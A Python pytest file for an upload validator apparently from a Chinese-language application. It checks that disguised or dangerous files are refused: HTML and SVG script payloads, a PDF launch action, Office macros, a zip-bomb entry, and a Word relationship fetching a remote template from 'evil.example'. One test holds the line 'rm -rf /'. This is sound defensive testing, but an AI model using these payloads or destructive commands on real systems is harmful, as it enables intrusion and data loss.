from __future__ import annotations

import io

import pytest

from fengqiao.kernel.files.errors import UploadError
from fengqiao.kernel.files.media import KINDS, identify
from fengqiao.kernel.files.names import ending_of
from fengqiao.kernel.files.tests.samples import GOOD, JPEG, MP4, PDF, PNG, PROGRAM, compound, packed

PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
DRAWING = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
REMOTE = (
    b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" '
    b'TargetMode="External"/>'
)
LOCAL = b'<Relationship Type="http://x/attachedTemplate" Target="file:///C:/Normal.dotm"/>'


@pytest.mark.parametrize("name", GOOD)
def test_every_usual_kind_of_file_is_taken(name: str) -> None:
    assert identify(io.BytesIO(GOOD[name]), name) == KINDS[ending_of(name)].media_type


@pytest.mark.parametrize(
    "name",
    [
        "页.html", "页.htm", "页.xhtml", "图.svg", "页.xml", "程序.exe", "库.dll", "批.bat",
        "宏.docm", "宏.xlsm", "宏.pptm", "模板.dotm", "脚本.js", "脚本.vbs", "脚本.sh", "页.hta",
        "包.zip", "包.rar", "包.7z", "链接.lnk", "网页.mht", "无扩展名", "双.pdf.exe", ".htaccess",
    ],
)  # fmt: skip
def test_what_runs_or_hides_is_refused_by_its_ending(name: str) -> None:
    with pytest.raises(UploadError, match=r"不接收|没有扩展名"):
        identify(io.BytesIO(PDF), name)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("照片.jpg", PROGRAM), ("照片.jpg", PAGE), ("照片.png", DRAWING), ("照片.png", JPEG),
        ("照片.jpg", PDF), ("回函.pdf", PAGE), ("回函.pdf", PNG), ("回函.pdf", packed("docx")),
        ("协议.docx", PDF), ("协议.docx", compound()), ("旧文.doc", packed("docx")),
        ("录像.mp4", PROGRAM), ("录音.mp3", PAGE), ("说明.txt", PROGRAM), ("说明.txt", MP4),
        ("说明.txt", PDF), ("照片.jpg", b""), ("照片.jpg", b"\xff"),
    ],
)  # fmt: skip
def test_a_content_under_another_ending_is_refused(name: str, content: bytes) -> None:
    with pytest.raises(UploadError, match="内容不是"):
        identify(io.BytesIO(content), name)


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("照片.jpg", JPEG + packed("docx"), "藏有压缩包"),
        ("回函.pdf", PDF + packed("docx"), "藏有压缩包"),
        ("录像.mp4", MP4 + packed("docx"), "藏有压缩包"),
        ("回函.pdf", PDF[:40], "不完整"),
        ("回函.pdf", PDF.replace(b"/Type", b"/S /Launch /Type"), "启动程序"),
        ("协议.docx", packed("xlsx"), "没有该类文档的正文"),
        ("协议.docx", packed("docx", {"word/vbaProject.bin": b"x"}), "宏"),
        ("台账.xlsx", packed("xlsx", {"xl/macrosheets/sheet1.xml": b"x"}), "宏"),
        ("台账.xlsx", packed("xlsx", {"xl/activeX/activeX1.bin": b"x"}), "宏"),
        ("协议.docx", packed("docx", {"word/embeddings/a.exe": b"x"}), "宏"),
        ("文稿.odt", packed("odt", {"Basic/Standard/Module1.xml": b"x"}), "宏"),
        ("协议.docx", packed("docx", {"word/_rels/settings.xml.rels": REMOTE}), "外部地址"),
        ("协议.docx", packed("docx", {"a.bin": b"0" * 80_000_000}), "解压"),
        ("协议.docx", packed("docx")[:-30], "解压|内容"),
        ("旧表.xls", compound("WordDocument"), "没有该类文档的正文"),
        ("旧文.doc", compound("EncryptedPackage"), "密码"),
        ("旧文.doc", compound()[:700], "损坏"),
        ("说明.txt", PAGE, "网页或脚本"),
        ("说明.txt", DRAWING, "网页或脚本"),
        ("名单.csv", "姓名\n<script>x</script>\n".encode(), "网页或脚本"),
        ("说明.txt", b"#!/bin/sh\nrm -rf /\n", "网页或脚本"),
        ("说明.txt", b"\xff\xff\xff\xff", "无法识别"),
        ("说明.txt", b"abc\x01\x02", "无法识别"),
    ],
)
def test_what_hides_inside_a_good_ending_is_refused(name: str, content: bytes, why: str) -> None:
    with pytest.raises(UploadError, match=why) as caught:
        identify(io.BytesIO(content), name)
    assert caught.value.next_step.startswith("请")


def test_macros_of_old_documents_are_refused() -> None:
    data = compound("WordDocument")
    root = "Root Entry".encode("utf-16-le")
    with_macros = data.replace(root, "_VBA_PROJECT"[:10].encode("utf-16-le"))
    assert identify(io.BytesIO(data), "旧文.doc") == "application/msword"
    assert identify(io.BytesIO(with_macros), "旧文.doc") == "application/msword"
    renamed = bytearray(data)
    at = renamed.index(root)
    name = "Macros".encode("utf-16-le") + b"\0\0"
    renamed[at : at + 64] = name.ljust(64, b"\0")
    renamed[at + 64 : at + 66] = len(name).to_bytes(2, "little")
    with pytest.raises(UploadError, match="宏"):
        identify(io.BytesIO(bytes(renamed)), "旧文.doc")


def test_a_letter_that_names_the_local_template_is_taken() -> None:
    letter = packed("docx", {"word/_rels/settings.xml.rels": LOCAL})
    assert identify(io.BytesIO(letter), "协议.docx")
